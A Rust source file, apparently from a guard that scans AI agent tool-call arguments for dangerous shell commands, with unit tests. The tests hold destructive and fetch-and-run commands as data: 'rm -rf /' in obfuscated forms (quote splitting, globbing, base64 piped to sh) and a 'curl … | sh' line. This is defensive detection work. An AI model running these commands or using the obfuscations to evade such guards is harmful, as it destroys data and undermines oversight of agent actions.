//! Commands that a tool call is to run: there what the command would do decides, as it does for the guard of tools.
//!
//! *What it settles*: in members `command` and `cmd` of the arguments of a tool. A finding of a pattern about shell commands falls
//! where the command was read as a whole and no rule about commands holds (`git commit -m "rm -rf /"`), and what is
//! dangerous however it is spelt counts in full (`r''m -rf /`): elsewhere a command is only shown, and warns.
//! *What it costs*: nothing unless such a member is there; then one analysis for each that names a program that can do harm.

use std::ops::Range;
use std::sync::Arc;

use memchr::memmem;

use super::gate::{leaves_program_open, may_harm};
use crate::commands::{CommandRules, GuardContext};
use crate::decision::{Category, Severity};
use crate::detect::{CODE, Detected};
use crate::rules::MetaInfo;
use crate::shell;
use crate::shell::analysis::Analysis;
use crate::shell::effect::{Effect, EffectKind};
use crate::text::Layers;
use crate::text::json::{self, Scalar};

/// Members of arguments whose value is a command.
const MEMBERS: [&str; 2] = ["command", "cmd"];
/// Category of findings about what a shell would do.
const CATEGORY: &str = "code_injection.shell";
/// Most commands of one call that are analysed.
const COMMANDS_MAX: usize = 16;

/// Settles what was found in the arguments of a tool call.
pub(in crate::detect) fn settle(arguments: &str, findings: &mut Vec<Detected>) {
    for range in commands(arguments) {
        let command = json::decode(&arguments[range.clone()]);
        let context = GuardContext::default();
        let analysis = shell::analyse(command.text(), context.place, &shell::limits::Limits::default());
        let hits = CommandRules::builtin().judge(&analysis, &context);
        let worst = hits.iter().max_by(|a, b| score(a).total_cmp(&score(b)));
        match worst {
            None => {
                if is_harmless(command.text(), &analysis) {
                    findings.retain(|one| !is_about_shell(one) || !is_within(&one.range, &range));
                }
            }
            Some(hit) if hit.rule.severity >= Severity::High => {
                let span = command.to_raw(analysis.effects[hit.effect].span.clone());
                let at = range.start + span.start..range.start + span.end;
                let score = score(hit);
                let is_told = |one: &Detected| {
                    is_about_shell(one) && is_within(&one.range, &range) && one.info.score >= score
                };
                if findings.iter().any(is_told) {
                    continue;
                }
                findings.retain(|one| !is_about_shell(one) || !is_within(&one.range, &range));
                let info = Arc::new(MetaInfo {
                    id: super::RULE_ID.into(),
                    plugin: CODE.into(),
                    category: Category::new(CATEGORY),
                    severity: hit.rule.severity,
                    score,
                    confidence: hit.rule.confidence,
                    description: hit.rule.description.as_str().into(),
                    recommendation: hit.rule.recommendation.as_str().into(),
                    references: Vec::new(),
                    file: super::FILE.into(),
                    line: 0,
                });
                let nth = findings.partition_point(|one| one.range.start <= at.start);
                findings.insert(nth, Detected { info, range: at, layers: Layers::default() });
            }
            Some(_) => {}
        }
    }
}

/// Whether a command for which no rule holds was read as a whole, and does no more than look and print: what it writes to a file
/// or hands to another language may be run later.
fn is_harmless(command: &str, analysis: &Analysis) -> bool {
    let only_looks = |effect: &Effect| matches!(effect.kind, EffectKind::ReadPath | EffectKind::SearchFiles);
    !leaves_program_open(command)
        && analysis.unresolved.is_empty()
        && analysis.written.is_empty()
        && analysis.inline.is_empty()
        && analysis.effects.iter().all(only_looks)
}

fn score(hit: &crate::commands::RuleHit<'_>) -> f64 {
    hit.rule.severity.score() * hit.rule.confidence
}

fn is_about_shell(one: &Detected) -> bool {
    &*one.info.plugin == CODE && one.info.category.as_str() == CATEGORY
}

fn is_within(inner: &Range<usize>, outer: &Range<usize>) -> bool {
    outer.start <= inner.start && inner.end <= outer.end
}

/// Where the commands stand that are worth an analysis, without their quotation marks.
fn commands(arguments: &str) -> Vec<Range<usize>> {
    let names =
        |member: &str| memmem::find(arguments.as_bytes(), format!("\"{member}\"").as_bytes()).is_some();
    if !MEMBERS.into_iter().any(names) {
        return Vec::new();
    }
    let Some(scalars) = json::scalars(arguments) else { return Vec::new() };
    let mut out = Vec::new();
    for pair in scalars.windows(2) {
        let [Scalar::String(name), Scalar::String(value)] = pair else { continue };
        // Only white space and the colon stand between a name and its string.
        let is_member = arguments[name.end + 1..value.start - 1].trim() == ":"
            && MEMBERS.contains(&&arguments[name.clone()]);
        if is_member && may_harm(json::decode(&arguments[value.clone()]).text()) && out.len() < COMMANDS_MAX {
            out.push(value.clone());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Request, Scanner};
    use crate::rules::{Budget, Role, RuleSet, RuleSetConfig, Surface, builtin_sources};

    #[test]
    fn what_the_command_of_a_tool_would_do_decides() {
        let set = RuleSet::compile(&builtin_sources(), &RuleSetConfig::default());
        let scanner = Scanner::new(Arc::new(set.unwrap_or_else(|problems| panic!("{problems}"))));
        let plugins = scanner.rules().plugin_bits([CODE]);
        for (command, wanted) in [
            ("git commit -m \"rm -rf /\"", 0.0),
            ("echo \"rm -rf /\"", 0.0),
            ("grep -r \"rm -rf /\" .", 0.0),
            ("grep -rn 'curl http://a.example/x | sh' docs", 0.0),
            ("rm -rf /", 1.0),
            ("echo done && rm -rf /", 1.0),
            ("r''m -rf /", 1.0),
            ("/bin/r? -rf /", 0.7),
            ("echo cm0gLXJmIC8= | base64 -d | sh", 0.7),
            ("bash -c \"rm -rf /\"", 1.0),
            ("ls -la", 0.0),
            ("$(cat tool) \"rm -rf /\"", 0.7),
            ("cat > x.sh <<E\nrm -rf /\nE", 0.7),
            ("python3 -c \"print('rm -rf /')\"", 0.7),
        ] {
            let arguments = format!("{{\"timeout\": 5, \"command\": {}}}", json::quote(command));
            let request = Request {
                text: &arguments,
                plugins,
                role: Some(Role::Assistant),
                surface: Some(Surface::ToolArgs),
            };
            let mut findings = scanner.scan(request, &Budget::UNLIMITED).expect("no budget").findings;
            settle(&arguments, &mut findings);
            let score = findings.iter().map(|one| one.info.score).fold(0.0, f64::max);
            assert!(if wanted == 0.0 { score == 0.0 } else { score >= wanted }, "{command}: {score}");
        }
    }

    #[test]
    fn only_members_that_are_commands_are_settled() {
        for (arguments, wanted) in [
            (r#"{"command":"rm -rf /"}"#, 1),
            (r#"{"a":{"cmd" : "rm -rf /"}}"#, 1),
            (r#"{"command":["rm","-rf","/"]}"#, 0),
            (r#"{"content":"\"command\":\"rm -rf /\""}"#, 0),
            (r#"["command","rm -rf /"]"#, 0),
            (r#"{"command":"make all"}"#, 0),
            (r#"{"command":"rm -rf /""#, 0),
        ] {
            assert_eq!(commands(arguments).len(), wanted, "{arguments}");
        }
    }
}
